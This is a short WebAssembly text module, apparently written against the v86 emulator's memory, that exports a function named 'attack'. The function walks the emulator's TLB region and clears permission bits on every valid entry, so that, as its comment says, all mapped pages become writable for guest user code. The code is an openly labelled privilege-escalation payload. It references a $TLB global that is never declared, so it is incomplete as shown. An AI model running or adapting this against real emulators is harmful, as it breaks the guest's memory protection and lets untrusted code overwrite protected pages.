;; More rights than the guest's page tables give: every valid entry becomes writable, for user code too.
(import "v86" "memory" (memory 1))

(func $attack (export "attack")
  (local $at i32)
  (local.set $at (global.get $TLB))
  (loop $next
    (if (i32.and (i32.load (local.get $at)) (i32.const 1))
      (then (i32.store (local.get $at) (i32.and (i32.load (local.get $at)) (i32.const -7)))))
    (local.set $at (i32.add (local.get $at) (i32.const 4)))
    (br_if $next (i32.lt_u (local.get $at) (i32.add (global.get $TLB) (i32.const 0x400000))))))
